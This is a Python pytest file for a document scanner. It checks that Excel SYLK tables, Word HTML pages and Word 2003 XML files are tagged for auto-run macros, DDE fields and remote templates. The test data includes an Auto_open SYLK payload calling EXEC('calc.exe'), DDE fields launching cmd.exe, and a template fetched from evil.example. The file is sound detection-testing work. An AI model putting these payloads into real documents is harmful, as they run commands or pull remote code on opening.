"""Documents of Word and Excel that are text or pages, and run what those in other formats run."""

from __future__ import annotations

import pytest

from tests.processor_time import fair_cpu_s
from tests.service.service_kit import zipped
from tests.service.test_service_documents import tags

SYLK = b"ID;P\nO;E\nNN;NAuto_open;ER1C1;F\nC;X1;Y1;K0;E%b\nC;X1;Y2;K0;EHALT()\nE\n"
MACROS = {"mime:macro", "office:auto-macro", "office:macro-runs-program"}
BEGIN, END = b"<span style='mso-element:field-begin'></span>", b"<span style='mso-element:field-end'></span>"
FIELD = BEGIN + b" D<b>DE</b>AUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;" + END
DDE = b"<html><body><!--[if supportFields]>" + FIELD + b"<![endif]--></body></html>"
TEMPLATE = (
    b"<html><xml><w:WordDocument><w:AttachedTemplate HRef='http://evil.example/t.dotm'/></w:WordDocument></xml></html>"
)
XML = (
    b"<?xml version='1.0'?><w:wordDocument xmlns:w='w'><w:docPr><w:attachedTemplate w:val='%b'/></w:docPr>"
    b"</w:wordDocument>"
)
PART = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    b"--b\r\n%bContent-Type: text/html\r\n\r\n%b\r\n--b--\r\n"
)


@pytest.mark.parametrize("name", ["a.xls", "a.csv", "a.txt", "a"])
@pytest.mark.parametrize("formula", [b'EXEC("calc.exe")', b"FORMULA(CHAR(61)&CHAR(69),A1)"])
@pytest.mark.parametrize("line_end", [b"\n", b"\r\n", b"\r"])
def test_macros_in_a_symbolic_link_file_were_only_seen_by_its_name(name: str, formula: bytes, line_end: bytes) -> None:
    assert tags((SYLK % formula).replace(b"\n", line_end), name) >= MACROS


def test_a_query_in_a_symbolic_link_file_was_not_seen() -> None:
    assert "office:dde" in tags(b"ID;P\nC;X1;Y1;K0;Ecmd|'/C calc'!A0\nE\n", "a.csv")


@pytest.mark.parametrize(
    "table",
    [
        b'ID;PWXL;N;E\nC;Y1;X1;K"Name";E\nC;Y1;X2;K5;ER[-1]C+1\nE\n',
        b"ID;Name;Text\n1;Meier;Please call (me)\nC;EXEC(;1\nNN;unknown;x\n",
    ],
)
def test_an_ordinary_table_that_begins_in_this_way_has_no_macros(table: bytes) -> None:
    assert not tags(table, "a.csv") - {"host:x"}


@pytest.mark.parametrize(
    ("page", "expected"), [(DDE, "office:dde"), (TEMPLATE, "office:remote-template")], ids=["field", "template"]
)
def test_a_page_of_word_was_read_only_as_a_page(page: bytes, expected: str) -> None:
    assert expected in tags(page, "a.doc")
    assert expected in tags(page.decode().encode("utf-16"), "a.docx")
    assert expected in tags(zipped(("a.doc", page)), "a.zip")
    for field in (b"", b"Content-Location: file:///C:/1/a.htm\r\n"):
        assert expected in tags(PART % (field, page), "a.doc")


@pytest.mark.parametrize(
    ("target", "expected"),
    [(b"http&#58;//evil.example/t.dotm", True), (b"C:\\x\\Normal.dotm", False), (b"\\\\files\\x.dotm", False)],
)
def test_the_template_of_a_document_of_word_2003_was_not_read(target: bytes, expected: bool) -> None:
    assert ("office:remote-template" in tags(XML % target, "a.xml")) == expected


def test_an_ordinary_field_in_a_page_of_word_gives_no_tag() -> None:
    field = BEGIN + b' HYPERLINK "https://example.org/" ' + END
    assert tags(b"<html><body>" + field + b"</body></html>", "a.doc") == {"host:example.org"}


@pytest.mark.parametrize("piece", [b"field-begin ", b"field-begin>x", b"<w:attachedtemplate ", b"&#97;", b"C;E\n"])
def test_pages_and_tables_of_these_kinds_take_linear_time(piece: bytes) -> None:
    content = b"ID;\n" if piece.startswith(b"C") else b"<html>field-begin attachedtemplate "
    assert fair_cpu_s(lambda: tags(content + piece * (300_000 // len(piece)), "a.doc")) < 2
